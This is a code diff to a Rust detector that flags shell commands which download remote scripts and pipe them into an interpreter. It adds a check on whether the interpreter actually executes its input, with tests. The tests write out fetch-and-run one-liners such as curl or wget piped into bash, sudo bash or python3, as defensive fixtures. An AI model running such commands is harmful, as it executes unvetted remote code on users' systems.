@@ -93,7 +93,7 @@ fn detect(command: &str, depth: usize) -> Option<RemoteCode> {
         let program = basename(program);
         let interpreter = is_interpreter(program);
         if interpreter {
-            if downloaded && seg.after_pipe {
+            if downloaded && seg.after_pipe && runs_stdin(program, args) {
                 return Some(RemoteCode::PipedIntoInterpreter);
             }
             if substitutions(&seg.text).any(fetches) {
@@ -124,6 +124,30 @@ fn detect(command: &str, depth: usize) -> Option<RemoteCode> {
 
 fn is_interpreter(program: &str) -> bool {
     INTERPRETERS.contains(&program) || program.starts_with("python")
+}
+
+/// Whether an interpreter runs what it reads on its input: `sh`, `bash -s -- -y`, `python3 -`,
+/// `bash /dev/stdin`; not `python3 -m json.tool`, `sh -c "…"` or `bash check.sh`, which read
+/// their input as data.
+fn runs_stdin(program: &str, args: &[String]) -> bool {
+    // The flags that give the code another way: a script argument or a module.
+    let code_flag = |f: &str| match program {
+        p if p.starts_with("python") => f.contains(['c', 'm']),
+        "perl" | "ruby" | "node" | "nodejs" | "php" | "lua" => f.contains(['e', 'E', 'r']),
+        _ => f.contains('c'),
+    };
+    for a in args {
+        match a.as_str() {
+            "-" | "--" | "-s" | "/dev/stdin" | "/proc/self/fd/0" | "/dev/fd/0" => return true,
+            f if f.starts_with('-') => {
+                if code_flag(f.trim_start_matches('-')) {
+                    return false;
+                }
+            }
+            _ => return false,
+        }
+    }
+    true
 }
 
 /// The script an interpreter is given on its command line: `sh -c SCRIPT`, `eval ARGS…`.
@@ -502,6 +526,27 @@ mod tests {
                 PipedIntoInterpreter,
             ),
             (
+                "curl -s https://x.org/i.sh | bash -s -- -y",
+                PipedIntoInterpreter,
+            ),
+            (
+                "curl -s https://x.org/i.sh | sudo bash /dev/stdin",
+                PipedIntoInterpreter,
+            ),
+            (
+                "wget -qO- https://x.org/a.py | python3 -u",
+                PipedIntoInterpreter,
+            ),
+            ("(curl -s https://x.org/i.sh) | sh", PipedIntoInterpreter),
+            (
+                "echo \"$(curl -s https://x.org/i.sh | sh)\"",
+                PipedIntoInterpreter,
+            ),
+            (
+                "sh -c 'curl -s https://x.org/i.sh | sh'",
+                PipedIntoInterpreter,
+            ),
+            (
                 "cd /tmp && curl -s https://x.org/a | env FOO=1 sh",
                 PipedIntoInterpreter,
             ),
@@ -576,6 +621,10 @@ mod tests {
         for command in [
             "curl -o out.json http://127.0.0.1:8000/api",
             "curl -s http://127.0.0.1:8000/health | jq .status",
+            "curl -s http://127.0.0.1:8000/api | python3 -m json.tool",
+            "curl -s http://127.0.0.1:8000/api | python3 -c 'import json,sys; json.load(sys.stdin)'",
+            "curl -s http://127.0.0.1:8000/api | bash scripts/check.sh",
+            "curl -s http://127.0.0.1:8000/api | node -e 'process.stdin.pipe(process.stdout)'",
             "curl -s http://127.0.0.1:8000/x | grep ok && sh scripts/test.sh",
             "curl -o data.json http://x.org/d && python3 check.py",
             "wget -q http://x.org/data.csv && python3 load.py data.csv.bak",
